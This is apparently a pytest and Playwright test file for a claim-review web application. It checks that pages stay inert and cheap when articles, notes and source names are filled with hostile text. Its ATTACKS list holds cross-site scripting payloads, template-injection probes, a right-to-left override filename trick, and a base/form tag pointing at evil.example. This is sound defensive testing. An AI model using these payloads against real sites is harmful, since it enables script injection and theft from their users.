"""Articles that would do harm if any of their words were interpreted as markup."""

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from benchmarks.screenshots import serving
from claims.model import Block, BlockKind, ClaimSet, Span
from claims.review import Settings
from claims.review.server import free_port
from claims.store import Decision, Filters, Sort, Store, limits, open_store
from tests.review.browsing import a_browser, watched
from tests.work import calls_of_threads, queries

ATTACKS = [
    "<script>window.pwned = true</script>",
    "<img src=x onerror=window.pwned=true>",
    '"><svg onload=window.pwned=true>',
    "' autofocus onfocus=window.pwned=true x='",
    "</textarea></title></style></script><script>window.pwned=true</script>",
    "javascript:window.pwned=true",
    "{{ 7 * 7 }}{% raw %}",
    "\u202egnp.exe\u2066\u202e",
    "a\x00b\x1b[31m\ufeff",
    "\ud800 half",
    "<base href=https://evil.example/><form action=https://evil.example>",
    "hx-get=/logout hx-trigger=load <div hx-get=/live hx-trigger=load>",
    "word" * 3000,
]


@pytest.fixture(scope="module")
def hostile(exports: dict[str, ClaimSet], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    """A store with an article in which every free text is an attack."""
    with open_store(tmp_path_factory.mktemp("hostile") / "claims.db") as store:
        for n, attack in enumerate(ATTACKS):
            store.add(poisoned(exports["strait-talks"], attack, n))
        first = store.query(Filters(article=("hostile-0",)), Sort.ARTICLE).claims
        for claim, attack in zip(first, ATTACKS, strict=False):
            for decision in (
                Decision.note(attack[: limits.NOTE]),
                Decision.source(attack[: limits.PARTY]),
                Decision.statement(attack[: limits.STATEMENT]),
                Decision.assign("Ana"),
            ):
                store.decide(claim.id, decision, by="Ben")
        store.save_view("Ana", ATTACKS[0], "sort=article")
        yield store


def poisoned(seed: ClaimSet, attack: str, n: int) -> ClaimSet:
    """The claim set with its texts replaced by ``attack``."""
    claims = tuple(
        claim.model_copy(
            update={
                "id": f"h{n}-{claim.id}",
                "text": attack,
                "statement": f"{attack} {m}",
                "source": attack if claim.source else None,
                "speaker": attack,
                "via": (attack,) * len(claim.via),
                "hedges": tuple(hedge.model_copy(update={"text": attack}) for hedge in claim.hedges),
                "basis": tuple(f"h{n}-{id}" for id in claim.basis),
                "checkworthiness_reasons": (attack,),
            }
        )
        for m, claim in enumerate(seed.claims)
    )
    sources = tuple(
        source.model_copy(update={"name": attack, "organisation": attack, "role": attack}) for source in seed.sources
    )
    about = {
        "id": f"hostile-{n}",
        "title": attack,
        "publisher": attack,
        "author": attack,
        "url": "javascript:window.pwned=true",
    }
    length = len(seed.article.text)
    article = seed.article.model_copy(update={**about, "text": (attack + " ") * (length // (len(attack) + 1)) + " " * 20_000})
    return seed.model_copy(update={"article": article, "claims": claims, "sources": sources})


MOST_CALLS = 1_000_000
"""Maximum function calls for a page of the large article, which has five million characters: most pages take 100,000."""
SEARCHING = 5_000_000
"""The same for pages that process all of it."""
MOST_QUERIES = 100
MOST_ELEMENTS = 5_000


def large(seed: ClaimSet, *, edited: bool = False) -> ClaimSet:
    """An article of five megabytes of attacks: a third of it one paragraph and one claim, the rest 6,000 paragraphs with 600
    claims, all attributed to a source whose name is also an attack.
    """
    shortest = [attack for attack in ATTACKS if len(attack) < 200]
    giant = " ".join(shortest) * 3_500
    paragraphs = [giant, *(f"{shortest[n % len(shortest)]} " * (600 // len(shortest[n % len(shortest)])) for n in range(6_000))]
    blocks, at = [], 0
    for words in paragraphs:
        blocks.append(Block(kind=BlockKind.BODY, start=at, end=at + len(words)))
        at += len(words) + 2
    text = "\n\n".join(paragraphs)
    claim, source = seed.claims[0], seed.sources[0].model_copy(update={"name": giant[:5_000], "organisation": giant[:5_000]})
    places = [blocks[0], *blocks[1::10]]
    claims = tuple(
        claim.model_copy(
            update={
                "id": f"large-{n}" + ("-edited" if edited and n % 2 else ""),
                "text": text[block.start : block.end],
                "spans": (Span(start=block.start, end=block.end),),
                "statement": f"{n} {text[block.start : block.end]}{' edited' if edited and n % 2 == 0 else ''}",
                "source": giant[:5_000],
                "speaker": giant[:5_000],
                "basis": (f"large-{n}",),
                "checkworthiness_reasons": (giant[:5_000],),
            }
        )
        for n, block in enumerate(places)
    )
    saying = seed.attributions[0]
    whole = saying.content.model_copy(update={"text": text, "spans": (Span(start=0, end=len(text)),)})
    article = seed.article.model_copy(
        update={
            "id": "large",
            "text": text,
            "blocks": tuple(blocks),
            "title": giant[:50_000],
            "publisher": giant[:50_000],
            "author": giant[:50_000],
            "sha256": ("1" if edited else "0") * 64,
        }
    )
    attributions = (saying.model_copy(update={"content": whole}),)
    return seed.model_copy(update={"article": article, "claims": claims, "sources": (source,), "attributions": attributions})


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with a_browser() as found:
        yield found


def test_hostile_articles_are_inert_on_every_page(hostile: Store, settings: Settings, chromium: Browser) -> None:
    own = replace(settings, port=free_port())
    with serving(hostile, own) as app:
        for name in ("Ana", "Eda"):
            found = watched(chromium, own, name, app.state.authenticator)
            for path in ("/", "/dashboard", "/articles", "/?assigned=Ana&sort=newest"):
                found.open(path)
                assert found.page.locator("script:not([src]), base, img:not([src^='/static/'])").count() == 0
                found.check()
            found.page.context.close()
        ana = watched(chromium, own, "Ana", app.state.authenticator)
        for n in range(len(ATTACKS)):
            claims = hostile.query(Filters(article=(f"hostile-{n}",)), Sort.ARTICLE).claims
            for path in (f"/claims/{claims[3].id}", f"/article?id=hostile-{n}", f"/compare?id=hostile-{n}"):
                ana.open(path)
                ana.check()
        for claim in hostile.query(Filters(article=("hostile-0",)), Sort.ARTICLE).claims[: len(ATTACKS)]:
            ana.open(f"/claims/{claim.id}")
            ana.page.evaluate("document.querySelectorAll('details').forEach((found) => { found.open = true; })")
            expect(ana.page.locator(".history li").first).to_be_visible()
            ana.check()
        ana.page.context.close()


def test_five_megabytes_of_attacks_are_inert_and_cheap_on_every_page(
    exports: dict[str, ClaimSet], settings: Settings, chromium: Browser, tmp_path: Path
) -> None:
    """It is shown in parts: work and size of a page do not grow with the article."""
    own = replace(settings, port=free_port())
    with open_store(tmp_path / "claims.db") as store:
        for edited in (False, True):
            article = large(exports["strait-talks"], edited=edited)
            assert len(article.article.text) > 5_000_000
            store.add(article)
        claims = store.query(Filters(), Sort.ARTICLE, None, 1000).claims
        for decision in (Decision.note((ATTACKS[2] * 100)[: limits.NOTE]), Decision.assign("Ana"), Decision.verdict("False")):
            store.decide(claims[0].id, decision, by="Ben")
        with calls_of_threads() as calls, queries(store) as asked, serving(store, own) as app:
            eda = watched(chromium, own, "Eda", app.state.authenticator)
            weights = []
            eda.page.on("response", lambda answer: weights.append((len(answer.body()), answer.url)) if answer.ok else None)
            places = (f"/claims/{claims[n].id}{query}" for n in (0, 1, 300, 600) for query in ("", "?sort=article"))
            parts = (f"/article?id=large&at={at}" for at in (0, 1, 2_500_000, 5_190_000, 9_999_999))
            for path in ("/", "/?text=pwned&sort=article", *places, *parts, "/compare?id=large", "/dashboard", "/articles"):
                asked.taken(), calls.taken()
                eda.open(path)
                assert calls.taken() < (SEARCHING if path.startswith(("/?text", "/compare")) else MOST_CALLS), path
                assert asked.taken() < MOST_QUERIES, path
                assert eda.page.evaluate("document.querySelectorAll('*').length") < MOST_ELEMENTS, path
                assert eda.page.locator("script:not([src]), base, img:not([src^='/static/'])").count() == 0
                overflow = eda.page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
                assert overflow <= 0, path
                eda.check()
            eda.open("/article?id=large&at=2500000")
            eda.page.get_by_role("link", name="Show what follows").click()
            eda.page.wait_for_url("**at=2512000")
            eda.page.get_by_role("link", name="Show what comes before").click()
            eda.page.wait_for_url("**at=2500000")
            for path in ("/export", "/import"):
                eda.open(path)
                eda.check()
            assert max(weights)[0] < 400_000, max(weights)
            eda.page.context.close()


def test_bidirectional_overrides_do_not_affect_other_text(hostile: Store, settings: Settings, chromium: Browser) -> None:
    """The words after a claim that ends in a bidirectional override still run from left to right."""
    own = replace(settings, port=free_port())
    n = next(n for n, attack in enumerate(ATTACKS) if "\u202e" in attack)
    claim = hostile.query(Filters(article=(f"hostile-{n}",)), Sort.ARTICLE).claims[3]
    with serving(hostile, own) as app:
        found = watched(chromium, own, "Ana", app.state.authenticator)
        found.open(f"/claims/{claim.id}")
        runs_on = """() => { const label = document.querySelector('.facts dt').firstChild; const range = document.createRange();
            range.setStart(label, 0); range.setEnd(label, 1); const first = range.getBoundingClientRect().left;
            range.setStart(label, 3); range.setEnd(label, 4); return range.getBoundingClientRect().left > first; }"""
        assert found.page.evaluate(runs_on)
        found.open("/?text=gnp&sort=article")
        isolated = (
            "() => [...document.querySelectorAll('bdi, .block')].every((e) => getComputedStyle(e).unicodeBidi === 'isolate')"
        )
        assert found.page.evaluate(isolated)
        found.check()
        found.page.context.close()


@pytest.mark.parametrize("text", ['<b>bold</b> & "quoted"', "{{ principal.token }}", "a\r\nb\rc"])
def test_texts_are_shown_verbatim(
    text: str, exports: dict[str, ClaimSet], settings: Settings, chromium: Browser, tmp_path: Path
) -> None:
    seed = exports["valley-quake"]
    claim = seed.claims[0].model_copy(update={"statement": text, "basis": ()})
    with open_store(tmp_path / "claims.db") as store:
        store.add(seed.model_copy(update={"claims": (claim,)}))
        own = replace(settings, port=free_port())
        with serving(store, own) as app:
            found = watched(chromium, own, "Ana", app.state.authenticator)
            found.open(f"/claims/{claim.id}")
            shown = found.page.locator("h1.statement").evaluate("(element) => element.textContent")
            assert shown == text.replace("\r\n", " \n").replace("\r", "\n")
            found.check()
            found.page.context.close()
